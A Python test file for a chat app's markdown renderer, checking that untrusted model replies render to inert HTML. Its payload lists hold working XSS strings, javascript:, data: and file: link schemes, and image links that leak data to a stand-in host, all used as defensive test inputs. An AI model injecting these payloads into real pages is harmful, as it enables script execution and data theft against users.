"""Model output is untrusted: whatever a reply contains, its HTML runs nothing and loads nothing."""

import html
import re
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.utils.safestring import SafeString
from hypothesis import given, settings
from hypothesis import strategies as st

from conversations import rendering
from conversations.rendering import render_markdown, render_plain

ALLOWED_TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "strong", "em", "del", "s"),
    *("blockquote", "ul", "ol", "li", "code", "pre", "a", "span", "div"),
    *("table", "thead", "tbody", "tr", "th", "td"),
}
VOID_TAGS = {"br", "hr"}
LOADING_OR_STYLING_ATTRIBUTES = {"src", "srcset", "style", "background", "poster", "action"}


class _Inspector(HTMLParser):
    """Collects every reason the HTML could run script, load a resource, or be malformed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.open_tags: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name in LOADING_OR_STYLING_ATTRIBUTES:
                self.problems.append(f"attribute {name}={value!r} on <{tag}>")
            if name == "href" and urlsplit(value or "").scheme not in {"http", "https", "mailto"}:
                self.problems.append(f"href {value!r}")
        if tag not in VOID_TAGS:
            self.open_tags.append(tag)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)
        if tag not in VOID_TAGS:
            self.open_tags.pop()

    def handle_endtag(self, tag):
        if not self.open_tags or self.open_tags.pop() != tag:
            self.problems.append(f"unbalanced </{tag}>")

    def handle_comment(self, data):
        self.problems.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.problems.append(f"declaration {decl!r}")

    def handle_pi(self, data):
        self.problems.append(f"processing instruction {data!r}")


def assert_inert(output: str) -> None:
    inspector = _Inspector()
    inspector.feed(output)
    inspector.close()
    assert inspector.problems == [], output
    assert inspector.open_tags == [], f"unclosed {inspector.open_tags}: {output}"


def visible_text(output: str) -> str:
    return html.unescape(re.sub(r"<[^>]*>", "", output))


def code_text(output: str) -> str:
    return visible_text(re.search(r"<code[^>]*>(.*)</code>", output, re.DOTALL)[1])


# --- Raw HTML ------------------------------------------------------------------------------

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    '<iframe src="https://evil.example/"></iframe>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="//evil.example/x">protocol-relative</a>',
    '<img srcset="https://evil.example/x.png 1x">',
    '<div style="background:url(https://evil.example/x.png)">x</div>',
    '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<style>@import 'https://evil.example/x.css';</style>",
]
CONTEXTS = {
    "paragraph": "PAYLOAD",
    "code block": "```html\nPAYLOAD\n```",
    "inline code": "`PAYLOAD`",
    "table cell": "| a |\n|---|\n| PAYLOAD |",
    "link text": "[PAYLOAD](https://example.com)",
    "image alt": "![PAYLOAD](https://example.com/x.png)",
    "heading": "# PAYLOAD",
    "quoted list": "> - PAYLOAD",
}


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_raw_html_in_reply_is_inert(payload, context):
    assert_inert(render_markdown(CONTEXTS[context].replace("PAYLOAD", payload)))


def test_script_tag_in_reply_is_shown_as_text():
    output = render_markdown("<script>alert(1)</script>")

    assert output == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>\n"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitiser_drops_dangerous_html_even_if_markdown_let_it_through(payload):
    # Defence in depth: html=False already turns these into text before the sanitiser.
    assert_inert(rendering._CLEANER.clean(payload))


def test_sanitiser_drops_script_and_style_with_their_content():
    cleaned = rendering._CLEANER.clean("<p>a<script>alert(1)</script><style>p{}</style>b</p>")

    assert cleaned == "<p>ab</p>"


# --- Links ---------------------------------------------------------------------------------

REFUSED_DESTINATIONS = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x20;javascript:alert(1)",
    "<\tjavascript:alert(1)>",
    "%6A%61vascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://files.example/x",
    "/relative/path",
    "//evil.example/x",
    "https:evil.example",
    "https:///evil.example",
]


@pytest.mark.parametrize("destination", REFUSED_DESTINATIONS)
def test_link_with_refused_scheme_loses_its_href_but_keeps_its_text(destination):
    output = render_markdown(f"Please [click here]({destination}) now")

    assert_inert(output)
    assert "<a" not in output
    assert "click here" in visible_text(output)


def test_reference_style_javascript_link_loses_its_href():
    output = render_markdown("[click here][r]\n\n[r]: javascript:alert(1)")

    assert output == "<p>click here</p>\n"


def test_autolink_with_javascript_scheme_is_plain_text():
    assert render_markdown("<javascript:alert(1)>") == "<p>javascript:alert(1)</p>\n"


@pytest.mark.parametrize(
    ("destination", "host"),
    [
        ("https://example.com/docs?page=2", "example.com"),
        ("http://EXAMPLE.org:8080/x", "example.org:8080"),
        ("HTTPS://example.net", "example.net"),
        ("mailto:help@example.com", "help@example.com"),
    ],
)
def test_allowed_link_opens_safely_and_shows_its_destination(destination, host):
    output = render_markdown(f"[the docs]({destination})")

    assert output == (
        f'<p><a href="{destination}" target="_blank" rel="noopener noreferrer nofollow">'
        f'the docs</a> <span class="link-host">({host})</span></p>\n'
    )


@pytest.mark.parametrize(
    "reply", ["<https://example.com/a>", "[https://example.com/a](https://example.com/a)"]
)
def test_link_whose_text_is_its_url_needs_no_host_label(reply):
    output = render_markdown(reply)

    assert 'href="https://example.com/a"' in output
    assert "link-host" not in output


def test_link_text_posing_as_another_url_shows_the_real_host():
    output = render_markdown("[https://bank.example](https://bank.example@evil.example/login)")

    assert '<span class="link-host">(evil.example)</span>' in output


def test_link_title_is_kept_and_escaped():
    output = render_markdown('[docs](https://example.com "a <b> title")')

    assert 'title="a &lt;b&gt; title"' in output


# --- Images --------------------------------------------------------------------------------

IMAGE_REPLIES = [
    "![secret chart](https://evil.example/?q=secret)",
    "![secret chart][img]\n\n[img]: https://evil.example/x.png",
    "![secret chart](//evil.example/x.png)",
    "![secret chart](data:image/png;base64,iVBORw0KGgo=)",
    "![secret chart](javascript:alert(1))",
    "[![secret chart](https://evil.example/x.png)](https://example.com)",
]


@pytest.mark.parametrize("reply", IMAGE_REPLIES)
def test_markdown_image_becomes_a_visible_placeholder(reply):
    output = render_markdown(reply)

    assert_inert(output)
    assert "<img" not in output
    assert '<span class="blocked-image" title="' in output
    assert "Image not loaded: secret chart" in visible_text(output)


def test_image_placeholder_names_the_url_in_its_title():
    output = render_markdown("![chart](https://evil.example/?q=secret)")

    assert output == (
        '<p><span class="blocked-image" title="https://evil.example/?q=secret">'
        "Image not loaded: chart</span></p>\n"
    )


def test_image_alt_text_is_escaped():
    output = render_markdown("![<b onmouseover=alert(1)>hi</b>](https://evil.example/x.png)")

    assert_inert(output)
    assert "Image not loaded: &lt;b onmouseover=alert(1)&gt;hi&lt;/b&gt;" in output


def test_image_without_alt_text_still_says_it_was_not_loaded():
    assert "Image not loaded</span>" in render_markdown("![](https://evil.example/x.png)")


def test_huge_data_image_keeps_a_short_title():
    output = render_markdown(f"![x](data:image/png;base64,{'A' * 100_000})")

    title = re.search(r'title="([^"]*)"', output)[1]
    assert len(title) <= rendering.TITLE_MAX_CHARS


# --- Code ----------------------------------------------------------------------------------


def test_python_fence_is_highlighted_inside_the_codeblock_wrapper():
    output = render_markdown("```python\ndef greet():\n    return '<hi>'\n```")

    assert output.startswith(
        '<div class="codeblock" data-lang="python"><pre><code class="language-python">'
    )
    assert '<span class="k">def</span>' in output
    assert "&lt;hi&gt;" in output
    assert output.endswith("</code></pre></div>\n")


def test_fence_language_alias_uses_the_canonical_name():
    output = render_markdown("```PY\nx = 1\n```")

    assert 'data-lang="python"' in output
    assert 'class="language-python"' in output


def test_unknown_language_fence_renders_escaped_plain_text():
    output = render_markdown("```nosuchlanguage\n<b>x</b> & y\n```")

    assert output == (
        '<div class="codeblock" data-lang="text"><pre><code class="language-text">'
        "&lt;b&gt;x&lt;/b&gt; &amp; y\n</code></pre></div>\n"
    )


def test_fence_info_string_cannot_inject_attributes():
    output = render_markdown('```python" onmouseover="alert(1)\nx\n```')

    assert_inert(output)
    assert 'data-lang="text"' in output


def test_indented_code_gets_the_same_wrapper_for_the_copy_button():
    output = render_markdown("    print('hi')\n")

    assert output.startswith('<div class="codeblock" data-lang="text"><pre><code')


def test_code_text_is_kept_exactly_as_written():
    code = "\n\n\tdef f():  \n\t\treturn '<a>' & \"b\"  \n\n"

    output = render_markdown(f"```python\n{code}```")

    assert code_text(output) == code


def test_inline_code_is_a_code_element():
    assert render_markdown("Use `<b>` here") == "<p>Use <code>&lt;b&gt;</code> here</p>\n"


def test_huge_code_block_is_escaped_without_highlighting():
    code = "x = '<b>'\n" * 3_000  # 30,000 characters, beyond the highlighting budget

    output = render_markdown(f"```python\n{code}```")

    assert 'data-lang="python"' in output
    assert "<span" not in output
    assert code_text(output) == code


def test_highlighting_budget_is_shared_by_all_blocks_of_a_reply():
    block = "```python\n" + "x = 1\n" * (rendering.HIGHLIGHT_BUDGET // 6 - 10) + "```\n"

    output = render_markdown(block + block)

    first, second = output.split("</div>")[:2]
    assert "<span" in first
    assert "<span" not in second


def test_committed_pygments_css_matches_the_installed_pygments():
    path = Path(__file__).resolve().parent.parent / "static" / "css" / "pygments.css"

    assert path.read_text() == rendering.pygments_css(), "regenerate it: see its first comment"


def test_pygments_css_only_styles_code_blocks():
    # get_style_defs() would also restyle every <pre> on the page.
    selectors = re.findall(r"^ *([^\s/@}][^{\n]*)\{", rendering.pygments_css(), re.MULTILINE)

    assert selectors
    assert all(selector.startswith(".codeblock") for selector in selectors)


# --- Markdown flavour and text fidelity --------------------------------------------------------


def test_tables_and_strikethrough_render():
    output = render_markdown("| a | b |\n|:-:|--:|\n| 1 | ~~2~~ |")

    assert '<th class="align-center">a</th>' in output
    assert '<td class="align-right"><s>2</s></td>' in output


def test_quotes_and_dashes_are_kept_as_written():
    text = "\"quoted\" -- 'single' (c) ... --- ok"

    assert visible_text(render_markdown(text)) == text + "\n"


def test_chinese_emoji_and_mixed_scripts_pass_through_unchanged():
    # Full-width punctuation, a ZWJ emoji sequence, a decomposed é, a ligature and a
    # full-width letter: any NFC/NFKC normalisation or stripping would change them.
    text = (
        "你好\uff0c世界\uff01😀\U0001f469\U0001f3fd\u200d\U0001f4bb"
        " مرحبا Привет e\u0301 \ufb01 \uff21"
    )

    assert render_markdown(text) == f"<p>{text}</p>\n"


def test_both_renderers_return_safe_strings():
    assert isinstance(render_markdown("*hi*"), SafeString)
    assert isinstance(render_plain("hi"), SafeString)


# --- Streaming: partial replies --------------------------------------------------------------

STREAMED_REPLY = (
    "Here: <scr" + "ipt>alert(1)</script> and [x](javascript:alert(1)) and "
    "[ok](https://example.com/path) ![i](https://evil.example/?q=s)\n\n"
    "```python\nprint('<img src=x onerror=alert(1)>')\n```\n\n"
    "| a | b |\n|---|---|\n| <svg onload=alert(1)> | ~~x~~ |\n"
)


def test_every_prefix_of_a_streamed_reply_is_inert_and_well_formed():
    for end in range(len(STREAMED_REPLY) + 1):
        assert_inert(render_markdown(STREAMED_REPLY[:end]))


def test_unclosed_fence_while_streaming_renders_as_code():
    output = render_markdown("Try:\n\n```python\nfor i in range(3):\n    print(i")

    assert '<div class="codeblock" data-lang="python">' in output
    assert output.endswith("</code></pre></div>\n")


def test_half_a_link_while_streaming_is_plain_text():
    assert render_markdown("[x](http://exa") == "<p>[x](http://exa</p>\n"


FRAGMENTS = [
    *("<", ">", "/", "script", "img src=x ", "svg", "iframe", "onerror=alert(1)", "style="),
    *("javascript:", "JaVaScRiPt:", "data:", "vbscript:", "&#", "x09;", "&#106;", "&", ";"),
    *("](", "![", "[", "]", "(", ")", "```", "`", "~~", "*", "_", "\\", '"', "'", "=", ":"),
    *("http://e.example", "//", "mailto:", "\n", "\n\n", " ", "    ", "| a |", "|---|", "> "),
    *("- ", "1. ", "#", "<!--", "-->", "\x00", "\t"),
]
markdownish = st.lists(st.sampled_from(FRAGMENTS) | st.text(max_size=3), max_size=40).map("".join)


@settings(deadline=None, max_examples=300)
@given(st.text() | markdownish)
def test_any_reply_renders_to_inert_html(text):
    assert_inert(render_markdown(text))


@settings(deadline=None, max_examples=300)
@given(markdownish, st.data())
def test_any_partial_stream_renders_to_inert_html(text, data):
    end = data.draw(st.integers(min_value=0, max_value=len(text)))

    assert_inert(render_markdown(text[:end]))


# --- Users' own messages ---------------------------------------------------------------------


def test_plain_message_is_escaped_and_keeps_line_breaks():
    output = render_plain("<script>alert(1)</script>\nline 2\r\nline 3 & 'q'")

    assert output == (
        "&lt;script&gt;alert(1)&lt;/script&gt;<br>\nline 2<br>\nline 3 &amp; &#x27;q&#x27;"
    )


def test_plain_message_is_not_markdown():
    output = render_plain("**bold** [x](https://example.com) ![i](https://evil.example/x)")

    assert output == "**bold** [x](https://example.com) ![i](https://evil.example/x)"


@given(st.text())
def test_plain_message_keeps_every_character(text):
    output = render_plain(text)

    assert_inert(output)
    expected = text.replace("\r\n", "\n").replace("\r", "\n")
    assert html.unescape(output.replace("<br>\n", "\n")) == expected
